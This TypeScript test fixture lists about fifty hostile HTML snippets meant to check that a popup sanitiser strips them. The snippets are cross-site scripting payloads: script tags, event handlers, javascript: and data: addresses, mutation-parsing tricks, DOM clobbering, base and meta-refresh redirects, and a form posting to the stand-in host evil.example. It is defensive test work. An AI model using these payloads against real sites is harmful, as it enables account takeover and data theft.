/**
 * Popup HTML from an attacker who has an administrator's login. It must not run, load from another host, leave the area
 * of the popup or navigate away. Most cases try to set `hacked` on the window or to reach `evil.example`; the others
 * try to change or cover the page around the popup. The word `안내` is the harmless part. Some cases attack filters that
 * run before the sanitiser.
 */
export type HostileHtml = { readonly name: string; readonly html: string }

const RUN = 'window.hacked=1'

export const HOSTILE_HTML: readonly HostileHtml[] = [
  { name: 'a script', html: `<p>안내</p><script>${RUN}</script>` },
  { name: 'a script from elsewhere', html: '<p>안내</p><script src="https://evil.example/a.js"></script>' },
  { name: 'a script in pieces', html: `<p>안내</p><scr<script>ipt>${RUN}</scr</script>ipt>` },
  { name: 'a script in capitals with a slash', html: `<p>안내</p><SCRIPT/x>${RUN}</SCRIPT>` },
  { name: 'a module', html: `<p>안내</p><script type="module">${RUN}</script>` },
  { name: 'an image that fails', html: `<p>안내</p><img src="/x" onerror="${RUN}">` },
  { name: 'an image that fails, without quotes', html: `<p>안내</p><img src=/x onerror=${RUN}>` },
  { name: 'an image that fails, with slashes', html: `<p>안내</p><img/src="/x"/onerror="${RUN}">` },
  { name: 'a handler behind a value', html: `<p title="x"onclick="${RUN}">안내</p>` },
  { name: 'a handler behind a broken quote', html: `<p>안내</p><img title="x' onerror='y" src="/x" onerror="${RUN}">` },
  { name: 'a handler behind a form feed', html: `<p>안내</p><img src="/x"\fonerror="${RUN}">` },
  { name: 'a handler put together by the filter', html: `<p>안내</p><img src="/x" oonclick=""nerror="${RUN}">` },
  { name: 'a handler in an open tag', html: `<p>안내</p><img src="/x" onerror="${RUN}" <b>` },
  { name: 'an input that takes the focus', html: `<p>안내</p><input autofocus onfocus="${RUN}">` },
  { name: 'details that open by themselves', html: `<details open ontoggle="${RUN}">안내</details>` },
  { name: 'a marquee', html: `<marquee onstart="${RUN}">안내</marquee>` },
  { name: 'a video', html: `<p>안내</p><video><source onerror="${RUN}"></video>` },
  { name: 'a body', html: `<body onload="${RUN}"><p>안내</p></body>` },
  { name: 'a script address', html: `<a href="javascript:${RUN}">안내</a>` },
  { name: 'a script address in entities', html: `<a href="&#106;avascript&colon;${RUN}">안내</a>` },
  { name: 'a script address with a line break', html: `<a href="java\nscript:${RUN}">안내</a>` },
  { name: 'a script address behind a control character', html: `<a href="\u0001javascript:${RUN}">안내</a>` },
  { name: 'an outdated kind of script address', html: `<a href="vbscript:${RUN}">안내</a>` },
  { name: 'an address that contains a page', html: `<a href="data:text/html,<script>${RUN}</script>">안내</a>` },
  { name: 'an address without scheme', html: '<a href="//evil.example/">안내</a>' },
  { name: 'a link that opens in this tab', html: '<a href="https://evil.example/" target="_top" rel="opener">안내</a>' },
  { name: 'a picture with a script', html: `<svg onload="${RUN}"><script>${RUN}</script></svg><p>안내</p>` },
  { name: 'a picture that animates a link', html: `<svg><a xlink:href="#"><animate attributeName="href" values="javascript:${RUN}"/></a></svg><p>안내</p>` },
  { name: 'a picture from elsewhere', html: '<p>안내</p><img src="https://evil.example/pixel.png" alt="">' },
  { name: 'a picture from elsewhere in a set', html: '<p>안내</p><img src="/x" srcset="https://evil.example/a 1x">' },
  { name: 'formulas', html: `<math><maction actiontype="statusline" xlink:href="javascript:${RUN}">식</maction></math><p>안내</p>` },
  {
    name: 'formulas that are parsed differently the second time',
    html: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;"></table></mtext></math><p>안내</p>`,
  },
  { name: 'a style element that is parsed differently the second time', html: `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>"></svg><p>안내</p>` },
  { name: 'a noscript element that is parsed differently with scripts', html: `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript><p>안내</p>` },
  { name: 'a template with a shadow root', html: `<div><template shadowrootmode="open"><script>${RUN}</script></template></div><p>안내</p>` },
  { name: 'a cover over the page', html: '<div style="position:fixed;inset:0;z-index:9999999">안내</div>' },
  { name: 'a style sheet for the whole page', html: '<style>body{display:none}</style><p>안내</p>' },
  { name: 'a style sheet from elsewhere', html: '<link rel="stylesheet" href="https://evil.example/a.css"><p>안내</p>' },
  { name: 'the classes of this page', html: '<div class="modal skip" id="root">안내</div>' },
  { name: 'a form', html: '<form action="https://evil.example/"><input name="rrn"><button formaction="https://evil.example/">안내</button></form>' },
  { name: 'names that hide those of the document', html: '<img name="body" id="documentElement" src="/x"><p>안내</p>' },
  { name: 'names that hide the attributes', html: '<form id="x"><input name="attributes"><input name="children"></form><p>안내</p>' },
  { name: 'another base', html: '<base href="https://evil.example/"><a href="/board-faq">안내</a>' },
  { name: 'a redirect to another site', html: '<meta http-equiv="refresh" content="0;url=https://evil.example/"><p>안내</p>' },
  {
    name: 'a frame',
    html: `<iframe src="https://evil.example/" srcdoc="<script>parent.hacked=1</script>"></iframe><p>안내</p>`,
  },
  { name: 'an object', html: '<object data="https://evil.example/a.swf"></object><embed src="https://evil.example/a"><p>안내</p>' },
  { name: 'an instruction', html: `<?xml-stylesheet href="javascript:${RUN}"?><p>안내</p>` },
  { name: 'data and roles', html: `<div data-road="1" role="alertdialog" aria-modal="true" contenteditable tabindex="1" accesskey="s">안내</div>` },
  { name: 'a custom element', html: `<x-alert onclick="${RUN}" is="x">안내</x-alert>` },
]
